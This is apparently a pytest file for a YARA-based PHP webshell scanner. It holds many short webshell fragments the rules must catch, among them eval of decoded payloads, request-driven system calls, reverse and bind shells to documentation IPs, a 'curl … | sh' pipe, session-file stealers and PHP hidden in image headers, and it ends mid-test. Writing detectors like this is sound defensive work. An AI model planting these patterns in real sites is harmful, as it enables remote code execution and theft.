"""Webshell rules: each rule finds what it is for and leaves ordinary CMS code alone."""

from __future__ import annotations

import os
import random
import re
from pathlib import Path

import pytest

yara = pytest.importorskip("yara")

from ansible_collections.hostguard.hosting.plugins.module_utils import webshell_rules  # noqa: E402
from ansible_collections.hostguard.hosting.plugins.module_utils.webshell_rules import (  # noqa: E402
    LINE_LIMIT,
    GATE_TAG,
    RULE_SETS,
    TAINT,
    RuleError,
    Scanner,
    php_view,
)

WEBROOT = "/var/www/site1"


@pytest.fixture(scope="module")
def scanner():
    return Scanner()


def rule_names(findings):
    return sorted(finding.rule for finding in findings)


def own_rules():
    """(rule set, rule name, meta) of every rule in the collection's .yar files."""
    externals = dict.fromkeys(webshell_rules.EXTERNALS, "")
    found = []
    for name in RULE_SETS:
        compiled = yara.compile(filepath=os.path.join(webshell_rules.default_rules_dir(), name), externals=externals)
        found.extend((name, rule.identifier, rule.meta) for rule in compiled if GATE_TAG not in rule.tags)
    return found


def test_every_rule_is_documented_with_a_fragment_it_matches_and_one_it_must_not():
    rules = own_rules()
    assert len(rules) >= 20
    for rule_set, name, meta in rules:
        assert meta.get("description"), name
        assert ("example_match" in meta and "example_no_match" in meta) or "example_path" in meta, name


@pytest.mark.parametrize("rule_set, name, meta", own_rules(), ids=lambda value: value if isinstance(value, str) else "")
def test_each_rule_keeps_to_its_own_examples(scanner, rule_set, name, meta):
    path = meta.get("example_path", WEBROOT + "/x.php")
    if "example_match" in meta:
        assert name in rule_names(scanner.scan_bytes(path, meta["example_match"].encode())), meta["example_match"]
        no_path = meta.get("example_no_path", path)
        assert name not in rule_names(scanner.scan_bytes(no_path, meta["example_no_match"].encode()))
    else:
        assert name in rule_names(scanner.scan_bytes(meta["example_path"], b"<?php echo 1;"))
        assert name not in rule_names(scanner.scan_bytes(meta["example_no_path"], b"<?php echo 1;"))


# Fragments of each family of the issue, written anew: the rule must stay able to find each.
FAMILIES = [
    ("eval_decoded", "/x.php", b"<?php @eval(gzinflate(base64_decode('7b0HYBxJ'))); ?>"),
    ("eval_decoded", "/x.php", b"<?php EvAl ( str_rot13('riny($_CBFG[0]);') );"),
    ("eval_decoded", "/x.php", b"<?php include base64_decode('L3RtcC94');"),
    ("eval_request", "/x.php", b"<?php @assert($_REQUEST['x']);"),
    ("eval_request", "/x.php", b"<?php system( $_GET[\"cmd\"] );"),
    ("eval_request", "/x.php", b"<?php include $_COOKIE['page'];"),
    # payloads in headers
    ("eval_request", "/x.php", b"<?php eval(getenv('HTTP_X_DATA'));"),
    ("eval_request", "/x.php", b"<?php @eval($_SERVER['HTTP_ACCEPT_TOKEN']);"),
    ("eval_request", "/x.php", b"<?php eval(getallheaders()['X-Run']);"),
    ("request_callable", "/x.php", b"<?php $_POST['f']($_POST['a']);"),
    ("request_callable", "/x.php", b"<?php $f = base64_decode('YXNzZXJ0'); $f($_POST['x']);"),
    ("request_callable", "/x.php", b"<?php $h = getallheaders(); $h['X-F']($h['X-A']);"),
    # request data through a variable, a parameter, extract()
    ("request_through_variable", "/x.php", b"<?php $cmd = $_REQUEST['cmd']; system($cmd);"),
    ("request_through_variable", "/x.php", b"<?php $c = ($_POST['c']); $d = $c; echo shell_exec($d . ' 2>&1');"),
    ("request_through_variable", "/x.php", b"<?php function run($c) { passthru($c); } run($_GET['c']);"),
    ("request_through_variable", "/x.php", b"<?php extract($_REQUEST); @die($ctime($atime));"),
    # runner names hidden in pieces, decoded, reversed, replaced
    ("hidden_runner_name", "/x.php", b"<?php $f = 'as' . 'se' . 'rt'; $f($x);"),
    ("hidden_runner_name", "/x.php", b"<?php $f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116); $f($x);"),
    ("hidden_runner_name", "/x.php", b"<?php $k = str_replace('#', '', 'a#s#s#e#r#t'); $k($v);"),
    ("hidden_runner_name", "/x.php", b"<?php $a = strrev('tressa'); $a($b);"),
    ("hidden_runner_name", "/x.php", b"<?php $g = $_COOKIE['n'] . 'ert'; $g($p);"),
    ("hidden_runner_name", "/x.php", b"<?php (base64_decode('c3lzdGVt'))($x);"),
    # callbacks
    ("runner_as_callback", "/x.php", b"<?php call_user_func('assert', $_POST['c']);"),
    ("runner_as_callback", "/x.php", b"<?php register_shutdown_function('as'.'sert', $c);"),
    ("runner_as_callback", "/x.php", b"<?php call_user_func_array(assert, array($_POST['x']));"),
    ("runner_as_callback", "/x.php", b"<?php ob_start(function ($c) { eval($c); }); echo $_REQUEST['p'];"),
    ("string_xor", "/x.php", b"<?php $f = ('#&;' ^ 'BUH'); $f($x);"),
    # Godzilla, Behinder, antSword
    ("encrypted_payload_runner", "/x.php",
     b"<?php class K { function __invoke($p) { eval($p.\"\"); } } call_user_func(new K(), $d);"),
    ("encrypted_payload_runner", "/x.php",
     b"<?php session_start(); function x($d,$k){for($i=0;$i<strlen($d);$i++){$d[$i]=$d[$i]^$k[$i+1&15];}"
     b"return $d;} $p = x($_SESSION['load'], $key); eval($p);"),
    ("known_shell_string", "/x.php",
     b"<?php @ini_set(\"display_errors\", \"0\");@set_time_limit(0);$opdir=@ini_get(\"open_basedir\");"),
    ("preg_replace_eval", "/x.php", b"<?php preg_replace('#x#ie', 'system(\"id\")', 'x');"),
    ("create_function_code", "/x.php", b"<?php $f = create_function('', $code); $f();"),
    # escaped include of a non-PHP file
    ("include_non_php_file", "/x.php", b"<?php @include \"\\057home\\057u\\057www\\057favicon_1a3f84.ico\";"),
    ("include_escaped_path", "/x.php", b"<?php @include \"\\x2fh\\x6fme/u/www/favicon_1a3f84.ico\";"),
    # reverse shells, uploaders, mass mailers
    ("reverse_shell", "/x.php", b"<?php $s = fsockopen('198.51.100.7', 1337); exec('/bin/sh -i <&3 >&3 2>&3');"),
    ("reverse_shell", "/x.php", b"<?php $sock = stream_socket_client('tcp://198.51.100.7:9001'); proc_open('/bin/bash', $d, $p);"),
    ("request_file_writer", "/x.php", b"<?php copy($_FILES['u']['tmp_name'], $_FILES['u']['name']);"),
    ("request_file_writer", "/x.php", b"<?php file_put_contents($_GET['f'], $_POST['d']);"),
    ("upload_page", "/up.php",
     b"<form enctype='multipart/form-data' method='post'><input type='file' name='f'></form>"
     b"<?php if ($f) { copy($f, \"./$f_name\"); } ?>"),
    ("mass_mailer", "/x.php", b"<?php mail($_POST['to'], $_POST['s'], $_POST['b']);"),
    ("mass_mailer", "/m.php",
     b"<textarea name=emails></textarea><?php foreach (explode(\"\\n\", $emails) as $to) { mail($to, $s, $b); } ?>"),
    ("password_protected_shell", "/x.php",
     b"<?php if ('5f4dcc3b5aa765d61d8327deb882cf99' === md5($_POST['p'])) { system($_POST['c']); }"),
    ("web_command_form", "/x.php", b"<form><input name=cmd></form><? if ($cmd) { passthru($cmd); } ?>"),
    ("backtick_request", "/x.php", b"<?php echo `ls -la {$_GET['d']}`;"),
    ("request_callable", "/x.php", b"<?php $q = $_GET[1]; file_get_contents('php' . $q)($_GET[2]);"),
    ("request_callable", "/x.php", b"<?php $i['w'] = 'x'; $a[] = $i; $a[0]['w']($_POST['k']);"),
    ("hidden_runner_name", "/x.php", b"<?php $_ = $x; $__ = $y; $_($__);"),
    ("runner_as_callback", "/x.php", b"<?php $e = $_REQUEST['e']; array_filter(array($_POST['p']), base64_decode($e));"),
    ("runner_as_callback", "/x.php", b"<?php $r = join(array_diff($a, $b)); array_map($r, (array) $_REQUEST['1']);"),
    ("runner_as_callback", "/x.php", b"<?php $c = explode('.', $s); array_intersect_ukey($a, $b, $c[1] . $c[3]);"),
    ("preg_replace_eval", "/x.php", b"<?php mb_eregi_replace('\\d', $_REQUEST['x'], '1', 'e');"),
    ("superglobal_by_name", "/x.php", b"<?php foreach (array('_POST') as $r) { foreach ($$r as $k => $v) { $$k = $v; } }"),
    ("many_piece_code", "/x.php", b"<?php $a = strrev($a); @assert($a . $b);"),
    ("many_piece_code", "/x.php", b"<?php function x() { return $_POST['a']; } eval(x());"),
    ("request_path_access", "/x.php", b"<?php $f = $_GET['file']; readfile($f);"),
    ("request_file_writer", "/x.php", b"<?php copy($HTTP_POST_FILES['u']['tmp_name'], $_POST['remotefile']);"),
    ("backtick_request", "/x.php", b"<?=`$_GET[_]`?>"),
    ("eval_decoded", "/x.php", b"<?php eval(pack('H*', $e->getMessage()));"),
    ("runner_as_callback", "/x.php", b"<?php @array_diff_ukey(@array($_REQUEST['p'] => 1), array(2), $_REQUEST['f']);"),
    ("hidden_runner_name", "/x.php", b"<?php $c = 'chr'; $code = $c(101) . $c(118) . $c(97) . $c(108) . $c(40);"),
    ("hidden_runner_name", "/x.php", b"<?php $r = str_replace('q', '', 'qsqtr_qreplqace'); $d = $r('k', '', 'kbase64_kdecode'); $d($x);"),
    ("many_piece_code", "/x.php", b"<?php $f = $s['k']; eval($f($g));"),
    ("encoded_code", "/x.php", b"<?php $p = 'ZXZhbCgkX1BPU1RbJ2MnXSk7'; $q = $dec($p);"),
    ("encoded_code", "/x.php", b"<?php throw new Exception('2476616c75653d656e6428245f504f5354293b');"),
    ("self_deleting_runner", "/x.php",
     b"<?php unlink(__FILE__); ignore_user_abort(); set_time_limit(0); while (1) { file_put_contents($f, $shell); sleep(9); }"),
    ("xslt_php_runner", "/x.php",
     b"<?php $xsl = '<xsl:value-of select=\"php:functionString(\\'system\\', $c)\"/>'; $p->registerPHPFunctions();"),
    ("request_file_writer", "/up.php", b"<? move_uploaded_file($userfile, 'entrika.php'); ?>"),
    ("request_path_access", "/x.php", b"<?php copy('compress.zlib://' . $file, $temp);"),
    ("eval_request", "/x.txt", b"<!--\n/* banner\n<?php @$out = system($_POST['command']); ?>"),
    # PHP where no PHP should be
    ("php_after_image_magic", "/logo.gif", b"GIF89a<?php system($c); ?>"),
    ("php_after_image_magic", "/photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64 + b"<?PHP phpinfo();"),
    ("php_after_image_magic", "/a.png", b"\x89PNG\r\n\x1a\n\x00\x00<? echo 1;"),
    ("php_in_image_file", "/favicon_1a3f84.ico", b"<?php @eval($_POST['x']); ?>"),
    ("known_shell_name", WEBROOT + "/b374k-3.2.phtml", b"<?php echo 1;"),
    ("php_in_upload_dir", WEBROOT + "/sites/default/files/x.phtml", b"<?php echo 1;"),
    # request data into the first parameter of a function of the file, out of a JSON body, through a ternary
    ("request_path_access", "/x.php",
     b"<?php function show($p) { $h = opendir($p); while ($f = readdir($h)) echo $f; } show($_GET['d']);"),
    ("request_through_variable", "/x.php",
     b"<?php function conv($s) { eval(\"\\$r = $s;\"); return $r; } $cfg = trim($_POST['k']); $a = conv($cfg);"),
    ("request_file_writer", "/x.php",
     b"<?php function save($name, $body) { file_put_contents($name, $body); } save($_POST['n'], $_POST['b']);"),
    ("request_through_variable", "/x.php",
     b"<?php function outer($a) { inner($a); } function inner($b) { system($b); } outer($_REQUEST['q']);"),
    ("request_through_variable", "/x.php", b"<?php $c = isset($_POST['c']) ? $_POST['c'] : 'id'; echo shell_exec($c);"),
    ("request_callable", "/x.php", b"<?php $in = json_decode(file_get_contents('php://input'), true); $in['f']($in['a']);"),
    ("request_file_writer", "/x.php", b"<?php $target = $_POST['path']; file_put_contents($target, $_POST['body']);"),
    # PHP 4's names of the request arrays
    ("eval_request", "/x.php", b"<?php passthru($HTTP_GET_VARS['cmd']);"),
    ("request_through_variable", "/x.txt", b"<? $c = $HTTP_POST_VARS['c']; system($c); ?>"),
    # functions named by the request through reflection
    ("request_callable", "/x.php", b"<?php $r = new ReflectionFunction($_GET['f']); $r->invoke($_GET['a']);"),
    ("request_callable", "/x.php",
     b"<?php $f = implode('', ['sy', 'st', 'em']); Closure::fromCallable($f)->__invoke($_POST['c']);"),
    ("request_callable", "/x.php", b"<?php $c = Closure::fromCallable($_REQUEST['f']); $c(1);"),
    # request data compared through a callback held in a variable
    ("runner_as_callback", "/x.php",
     b"<?php $f = pack('H*', '1a2b3c') ^ $key; array_intersect_uassoc(array($_REQUEST['pw'] => ''), array(1), $f);"),
    ("runner_as_callback", "/x.php", b"<?php array_diff_ukey(array($_GET['x'] => 1), array(2), $cb . 'rt');"),
    # names picked character by character out of a string
    ("hidden_runner_name", "/x.php",
     b"<?php $s = 'qwertyuiopasdfghjklzxcvbnm'; $n = $s[10].$s[11].$s[11].$s[2].$s[3].$s[4]; $n($_POST[0]);"),
    ("hidden_runner_name", "/x.php",
     b"<?php $t['k'] = \"vpsmeya\"; $GLOBALS[$t['k'][5].$t['k'][1].$t['k'][5].$t['k'][4].$t['k'][3].$t['k'][2]]($x);"),
    ("hidden_runner_name", "/x.php", b"<?php $w = $q{4}.$q{1}.$q{0}.$q{7}.$q{7}; $w($y);"),
    # create_function(null, ...), and the same through variables
    ("create_function_code", "/x.php", b"<?php $f = create_function(NULL, $body); $f();"),
    ("create_function_code", "/x.php", b"<?php $GLOBALS['c']($GLOBALS['e'](null, $GLOBALS['s']('%s', $code)));"),
    # /e at the end of a pattern joined from pieces
    ("preg_replace_eval", "/x.php", b"<?php preg_replace('/' . $k . '/e', $_POST['c'], $k);"),
    ("preg_replace_eval", "/x.php", b"<?php preg_replace(\"#\" . $a[2] . \"#ie\", $r[$a[1]], $a[2]);"),
    # bind shells, and commands read from a socket and run
    ("reverse_shell", "/x.php",
     b"<?php $srv = stream_socket_server('tcp://0.0.0.0:' . $port); $c = stream_socket_accept($srv);"
     b" proc_open('PS1=x; /bin/sh -i', $d, $p);"),
    ("reverse_shell", "/x.php",
     b"<?php $s = fsockopen($host, $port); while (!feof($s)) { $cmd = trim(fgets($s, 1024));"
     b" if ($cmd == 'quit') { break; } fputs($s, shell_exec($cmd)); }"),
    ("reverse_shell", "/x.php", b"<?php $k = socket_create(AF_INET, SOCK_STREAM, 0); $line = socket_read($k, 99); $o = `$line`;"),
    # eval of a long literal through a decoder of the file's own, or of a variable decompressed just before
    ("packed_payload_runner", "/x.php",
     b"<?php function unpackit($s) { return gzinflate(base64_decode($s)); } eval(unpackit('" + b"QUJD" * 60 + b"'));"),
    ("eval_decoded", "/x.php", b"<?php $w = base64_decode($blob); $h = gzinflate($w); @eval('?>' . $h);"),
    ("eval_decoded", "/x.php", b"<?php $w = $d($info); $h = gzuncompress($w);\n@assert($h);"),
    # names of runners and file writers written in hex
    ("encoded_code", "/x.php", b"<?php $fn = array('66696c655f7075745f636f6e74656e7473', '6d6b646972'); $w = $x($fn[0]);"),
    ("encoded_code", "/x.php", b"<?php $e = \"7368656C6C5F65786563\";"),
    # commands piped into a shell
    ("shell_pipe_runner", "/x.php", b"<?php system(\"curl -s http://198.51.100.4/x | sh\");"),
    ("shell_pipe_runner", "/x.php", b"<?php $h = popen('echo ' . $c . ' | /bin/bash', 'r');"),
    ("shell_pipe_runner", "/x.php", b"<?php exec('echo \"./' . basename($f) . '\" | /usr/bin/sh -s', $out);"),
    # Windows COM shells and IIS account dumpers
    ("windows_com_shell", "/x.php", b"<?php $sh = new COM(\"Shell.Application\"); $sh->ShellExecute('cmd.exe', '/c ' . $c);"),
    ("windows_com_shell", "/x.txt",
     b"<? foreach (new COM('IIS://localhost/w3svc') as $s) { $r = new COM('IIS://localhost/w3svc/' . $s->Name . '/Root');"
     b" echo $r->AnonymousUserName . ':' . $r->AnonymousUserPass; } ?>"),
    # session stealers on a shared host
    ("session_file_reader", "/x.php",
     b"<? if ($d = opendir(\"/tmp\")) { while ($f = readdir($d)) { if ($f > \"sess_\") { $all .= file_get_contents(\"/tmp/$f\"); } } } ?>"),
    ("session_file_reader", "/x.php", b"<?php foreach (glob('/var/lib/php/sessions/sess_*') as $f) { echo file_get_contents($f); }"),
]


@pytest.mark.parametrize("rule, path, content", FAMILIES)
def test_each_family_is_found(scanner, rule, path, content):
    assert rule in rule_names(scanner.scan_bytes(path, content))


# The false alarms of the issue and ordinary CMS code: no rule may fire.
@pytest.mark.parametrize("path, content", [
    ("/wp-includes/class-wp.php", b"<?php $data = base64_decode( $encoded ); $r = curl_exec( $ch );"),
    ("/wp-includes/x.php", b"<?php $this->system_info(); $key = 'wp_' . 'nonce'; $s = 'ev' . 'ent';"),
    # md5 of request data with no comparison against a fixed hash
    ("/wp-includes/pluggable.php", b"<?php $hash = md5( $_POST['log'] ); if ( md5( $x ) ) {}"),
    ("/wp-includes/formatting.php", b"<?php return preg_replace( '/[^a-z0-9_\\-]/', '', $key );"),
    # chr() tables in a stemmer
    ("/lib/stemmer.php", b"<?php $vowels = array(chr(97), chr(101), chr(105), chr(111), chr(117), chr(121));"),
    # backticks and include/require in comments and docblocks
    ("/wp-includes/rest.php",
     b"<?php\n/**\n * Reads `$_POST` and passes it to `system()`; include the file\n"
     b" * before you require `$_GET['x']`.\n */\nfunction f() { return 1; }"),
    ("/lib/x.php", b"<?php // eval($_POST['x']) was removed here\n# system($_GET['c']);\necho 1;"),
    # CMS core directories called upload
    ("/wp-admin/includes/upload/handler.php", b"<?php echo esc_html( $_GET['page'] );"),
    ("/administrator/components/com_media/upload.php", b"<?php $file = $input->files->get('Filedata');"),
    ("/assets/app.js", b"eval(atob(payload)); document.write($_GET);"),
    ("/wp-content/uploads/2024/05/photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF" + b"\x00" * 64 + b"<?xpacket begin='' ?>"),
    ("/readme.txt", b"This plugin mentions eval( base64_decode in its changelog."),
    ("/wp-includes/class-phpass.php", b"<?php $plugin = $_REQUEST['plugin']; include WP_PLUGIN_DIR . '/' . $plugin;"),
    ("/wp-includes/query.php", b"<?php $q = array( 'include' => $_GET['ids'], 'exclude' => array() );"),
    ("/lib/utils.php", b"<?php $value = $_GET['v']; $out = shell_exec($command); $db->exec($value);"),
    ("/lib/mail.php", b"<?php $to = get_option('admin_email'); mail($to, 'Contact', $_POST['message']);"),
    ("/lib/cipher.php", b"<?php for ($i = 0; $i < $n; $i++) { $out[$i] = $text[$i] ^ $key[$i + 1 & 15]; }"),
    ("/lib/http.php", b"<?php $fp = fsockopen('ssl://api.wordpress.org', 443); fwrite($fp, $req);"),
    ("/lib/sort.php", b"<?php uasort( $nodes, static function ( $a, $b ) { return ( $a['f'] . $a['n'] ) <=> $b['f']; } );"),
    ("/lib/kses.php", b"<?php array_unshift( $attrarr, $begin . $slash . $elname );"),
    ("/lib/table.php", b"<?php Table::moveCopy( $db, $table, $_POST['newname'] );"),
    ("/lib/id.php", b"<?php $id = (int)($_GET['id']); $rows = array_map( 'intval', $_POST['ids'] );"),
    ("/lib/assert.php", b"<?php assert( is_array( $items ) ); eval( '?>' . $template );"),
    # request data in a function of the file: only its first parameter is followed, and only inside it
    ("/lib/log.php", b"<?php function log_line($file, $text) { file_put_contents($file, $text, FILE_APPEND); }"
     b" log_line(LOG_FILE, $_POST['msg']);"),
    ("/lib/page.php", b"<?php $page = isset($_GET['page']) ? intval($_GET['page']) : 1; exec('du -s ' . $page, $o);"),
    ("/lib/json.php", b"<?php $in = json_decode(file_get_contents('php://input'), true);"
     b" $name = sanitize_text_field($in['name']); update_option('n', $name);"),
    ("/lib/lang.php", b"<?php if (isset($HTTP_GET_VARS['lang'])) { $lang = basename($HTTP_GET_VARS['lang']); }"),
    # md5 of request data in a function of the file, with no comparison against a fixed hash
    ("/wp-includes/keys.php", b"<?php function key_for($v) { return md5($v . SALT); } $k = key_for($_POST['email']);"
     b" update_option('k', $k);"),
    # chr() tables in a stemmer that a function of the file runs on the request
    ("/lib/stemmer2.php", b"<?php function stem($w) { $v = array(chr(97), chr(101), chr(105), chr(111), chr(117));"
     b" return rtrim($w, implode('', $v)); } echo stem($_GET['q']);"),
    # a CMS core directory called upload, with a function of the file handed the upload
    ("/wp-admin/includes/upload/handle.php", b"<?php function handle($f) { return move_uploaded_file($f['tmp_name'],"
     b" $dir . '/' . wp_unique_filename($dir, $f['name'])); } handle($_FILES['async-upload']);"),
    ("/lib/reflect.php", b"<?php $r = new ReflectionFunction('strtolower'); echo $r->getNumberOfParameters();"),
    ("/lib/closure.php", b"<?php $c = Closure::fromCallable([$this, 'render']); echo $c->call($view, $title);"),
    ("/lib/opts.php", b"<?php $keep = array_intersect_ukey($_POST['opts'], $allowed, 'strcasecmp');"
     b" $d = array_udiff_assoc(array($_POST['a'] => 1), $defaults, $this->cmp);"),
    ("/lib/bytes.php", b"<?php $word = $b[0].$b[1].$b[2].$b[3]; $cb($word); $ip = $o[0].'.'.$o[1].'.'.$o[2].'.'.$o[3];"),
    ("/lib/filter.php", b"<?php $v = $filter(null, $value); $out = $fmt($date('Y'), $v);"),
    ("/lib/slug.php", b"<?php $slug = preg_replace('/' . preg_quote($sep, '/') . '/', '-', $slug);"
     b" $t = preg_replace('#' . $pattern . '#i', '', $text);"),
    ("/lib/socket.php", b"<?php $srv = stream_socket_server('tcp://127.0.0.1:8080'); $c = stream_socket_accept($srv);"
     b" $req = fgets($c); fwrite($c, \"HTTP/1.0 200 OK\\r\\n\");"),
    ("/lib/smtp.php", b"<?php $s = fsockopen($host, $port); $reply = fgets($s, 512); $ok = exec('hostname -f');"),
    ("/lib/icon.php", b"<?php function decode_icon($s) { return base64_decode($s); } echo decode_icon('" + b"iVBO" * 60 + b"');"),
    ("/lib/cache.php", b"<?php $page = gzinflate($body); echo $page; eval('?>' . $template);"),
    ("/lib/hash.php", b"<?php $hash = '5f4dcc3b5aa765d61d8327deb882cf99'; $color = 'ff6576616c';"),
    ("/lib/ps.php", b"<?php exec('ps aux | grep php | wc -l', $out); exec('ls | sha1sum', $sum);"),
    ("/lib/word.php", b"<?php $x = new COM('Excel.Application');"
     b" $iis = new COM('IIS://localhost/w3svc'); foreach ($iis as $site) { echo $site->ServerComment; }"),
    ("/lib/tmp.php", b"<?php $d = opendir('/tmp'); while ($f = readdir($d)) { if (strpos($f, 'upload_') === 0) {"
     b" unlink('/tmp/' . $f); } } $id = 'sess_' . session_id(); foreach (glob('/tmp/wp-cache-*') as $f) {}"),
    # the new tells written in comments and docblocks
    ("/lib/docs.php", b"<?php\n/**\n * Never pipe a download into a shell: system('curl x | sh');\n"
     b" * new COM('WScript.Shell') and Closure::fromCallable($_GET['f'])->__invoke($_POST['a']) are what shells do,\n"
     b" * as are opendir('/tmp') and reading its sess_ files, and create_function(null, $code).\n */\n"
     b"# preg_replace('/' . $k . '/e', $_POST['c'], $k);\n// array_intersect_uassoc(array($_REQUEST['p'] => ''), array(1), $f);\n"
     b"echo 1;"),
])
def test_ordinary_code_is_not_flagged(scanner, path, content):
    assert scanner.scan_bytes(WEBROOT + path, content) == []


def test_short_open_tags_and_php_in_text_files_are_php():
    view_rules = Scanner()
    assert "eval_request" in rule_names(view_rules.scan_bytes("/notes.txt", b"<? @eval($_POST['z']); ?>"))
    assert "eval_request" in rule_names(view_rules.scan_bytes("/x.txt", b"<html>\n<?\nsystem($_GET['c']);\n?>"))


def test_the_php_view_drops_comments_keeps_lines_and_folds_pieces():
    view = php_view(b"<?php\n/* a\n b */ $a = 'ev'.'al'; // x\n$u = \"\\x61\\163\"; $c = chr(65).chr(66);"
                    b" $r = strrev('tressa'); $s = 'http://x' . \"#y\";")
    assert view.count(b"\n") == 3
    assert b"$a = 'eval';" in view
    assert b"$u = \"as\";" in view
    assert b"$c = 'AB';" in view
    assert b"$r = 'assert';" in view
    assert b"'http://x'" in view and b"//" not in view.replace(b"http://", b"")


def test_the_php_view_folds_in_a_second_round_what_the_first_completes():
    # The decoder makes 'al' in the first round; only then is 'ev'.'al' a concatenation to join.
    assert b"$f = 'eval';" in php_view(b"<?php $f = 'ev'.strrev('la');")
    assert b"$g = 'assert';" in php_view(b"<?php $g = BASE64_DECODE('YXNzZXJ0');")
    assert b"$h = 'system';" in php_view(b'<?php $h = str_replace("#", "" , "sy#st#em");')
    assert b"$i = 'assert';" in php_view(b"<?php $r = 'str_replace'; $i = $r('x', '', 'axsxsxexrxt');")


def test_the_php_view_of_code_with_nothing_to_fold_is_the_code_without_comments():
    code = b"<?php\n$a = array( 'x' => '', 'y' => \"\" ); // c\necho esc_html( $a['x'] . 'z' );\n"
    assert php_view(code) == code.replace(b"// c", b" ")


def test_php_after_a_large_media_header_is_found(scanner):
    noise = bytes(range(256)) * (3 << 12)
    found = scanner.scan_bytes("/var/www/site1/img.jpg", b"\xff\xd8\xff\xe0" + noise + b"<?php system($_GET['c']); ?>")
    assert "php_after_image_magic" in rule_names(found)
    assert "php_in_image_file" not in rule_names(found)


def test_html_outside_php_blocks_is_left_alone():
    view = php_view(b"<p>don't /* stop</p><?php /* gone */ $a = 1; // gone\n?><p>it's // here</p>")
    assert view == b"<p>don't /* stop</p><?php   $a = 1;  \n?><p>it's // here</p>"


def test_request_data_is_followed_through_variables():
    view = php_view(b"<?php $a = $_GET['a']; $b = trim($a); system($b);")
    assert b"system($b\x02)" in view


def test_request_data_is_followed_through_ternaries_json_bodies_and_php4_names():
    assert b"eval($e\x02)" in php_view(b"<?php $e = isset($_POST['e']) ? $_POST['e'] : ''; eval($e);")
    assert b"eval($e\x02)" in php_view(b"<?php $e = !empty($_GET['e']) ? trim($_GET['e']) : 'x'; eval($e);")
    assert b"$in\x02['f']" in php_view(b"<?php $in = json_decode(file_get_contents('php://input')); $in['f']();")
    assert b"system($c\x02)" in php_view(b"<?php $c = $HTTP_COOKIE_VARS['c']; system($c);")
    # A choice that sanitizes the request data ends it.
    assert TAINT not in php_view(b"<?php $p = isset($_GET['p']) ? intval($_GET['p']) : 1; exec($p);")


def test_request_data_is_followed_into_a_functions_first_parameter_and_stays_inside_it():
    view = php_view(b"<?php function run($c, $n) { $d = $c; passthru($d . $n); }\nrun($_GET['c'], $_GET['n']);\n"
                    b"$c = 'uptime'; $d = $c; exec($d);")
    assert b"passthru($d\x02 . $n)" in view
    assert b"exec($d)" in view and b"$c = 'uptime'" in view
    # Only a plain call of the file's function: a method of the same name called on an object is not followed.
    view = php_view(b"<?php function save($f) { file_put_contents($f, 1); } $o->save($_POST['f']);")
    assert TAINT not in view
    # A function called with request data only in a later parameter, or with none, is left as it is.
    assert TAINT not in php_view(b"<?php function put($f, $t) { fopen($f, 'w'); } put('/tmp/x', $_POST['t']);")
    assert TAINT not in php_view(b"<?php function put($f) { fopen($f, 'w'); } put($_SERVER['DOCUMENT_ROOT']);")


def test_request_data_is_followed_from_one_function_of_the_file_into_the_next():
    view = php_view(b"<?php function outer($a) { return inner($a); } function inner(string $b) { return `$b`; }"
                    b" $x = outer($_COOKIE['x']);")
    assert b"`$b\x02`" in view
    # A function defined inside another one is followed too, and the file outside both is left as it is.
    view = php_view(b"<?php function a($x) { function b($y) { system($y); } b($x); } a($_GET['q']); echo $x;")
    assert b"system($y\x02)" in view and b"echo $x;" in view


def test_a_function_whose_body_is_not_closed_or_is_abstract_is_left_alone():
    assert b"system($c)" in php_view(b"<?php abstract class A { abstract function run($c); } function go() { system($c); }"
                                     b" run($_GET['c']);")
    assert TAINT not in php_view(b"<?php function run($c) { if (1) { system($c); " + b"run($_GET['c']);")


def test_a_finding_names_its_rule_line_and_excerpt(scanner):
    content = b"<?php\n// ok\n$cmd = $_GET['c'];\n\nsystem($cmd);\n"
    (finding,) = [f for f in scanner.scan_bytes("/x.php", content) if f.rule == "request_through_variable"]
    assert finding.line_number == 5
    assert finding.line == "system($cmd);"
    assert finding.description


def test_a_tell_far_into_a_big_file_is_found_with_its_line_number(scanner, monkeypatch):
    monkeypatch.setattr(webshell_rules, "WINDOW", 1 << 16)
    monkeypatch.setattr(webshell_rules, "WINDOW_OVERLAP", 1 << 12)
    filler = b"<?php\n" + b"$x = 1;\n" * 20000
    content = filler + b"@eval(base64_decode('x'));\n"
    scan = scanner.content_scan("/big.php")
    for start in range(0, len(content), 5000):
        scan.feed(content[start:start + 5000])
    (finding,) = [f for f in scan.findings if f.rule == "eval_decoded"]
    assert finding.line_number == filler.count(b"\n") + 1
    assert finding.line == "@eval(base64_decode('x'));"


@pytest.mark.parametrize("chunk", [1000, 4095, 4096, 4097, 12288, 1 << 20])
def test_the_window_finds_a_tell_across_its_boundaries_with_its_line(scanner, monkeypatch, chunk):
    """Whatever the size of the chunks read, a tell that straddles the end of a window is in the next one (the
    windows overlap), and each tell's line number counts the lines of the windows before it."""
    monkeypatch.setattr(webshell_rules, "WINDOW", 1 << 12)
    monkeypatch.setattr(webshell_rules, "WINDOW_OVERLAP", 1 << 9)
    first = b"echo `ls -la {$_GET['d']}`;\n"
    second = b"@eval(base64_decode($_POST['z']));\n"
    head = b"<?php\n" + b"$x = 1;\n" * 510  # 4086 bytes: the first tell runs over the end of the first window
    content = head + first + b"$y = 2;\n" * 1500 + second + b"$z = 3;\n" * 100
    assert len(head) < (1 << 12) < len(head) + len(first)
    scan = scanner.content_scan("/big.php")
    for start in range(0, len(content), chunk):
        scan.feed(content[start:start + chunk])
    lines = {finding.rule: (finding.line_number, finding.line) for finding in scan.findings}
    assert lines["backtick_request"] == (head.count(b"\n") + 1, first.decode().strip())
    assert lines["eval_decoded"] == (content[:content.index(second)].count(b"\n") + 1, second.decode().strip())
    assert {finding.rule for finding in scan.findings} == {finding.rule for finding in scanner.scan_bytes("/big.php", content)}


def test_the_rules_are_compiled_at_the_first_match_and_a_broken_user_file_before_it(tmp_path):
    scanner = Scanner()
    assert not scanner.compiled
    assert scanner.scan_bytes("/x.php", b"<?php echo 1;") == []
    assert scanner.compiled
    # Users' files are compiled one by one when the Scanner is made: a broken one fails before any match.
    broken = tmp_path / "broken.yar"
    broken.write_text("rule ok { condition: true }\nrule broken { strings: $a = \"x\" condition: $b }\n")
    with pytest.raises(RuleError, match=r"rule file %s does not compile: .*\(2\)" % broken):
        Scanner([str(tmp_path)])


def test_a_long_obfuscated_line_is_trimmed(scanner):
    content = b"<?php " + b"$a='x';" * 5000 + b"eval(base64_decode($p));" + b"$b='y';" * 5000
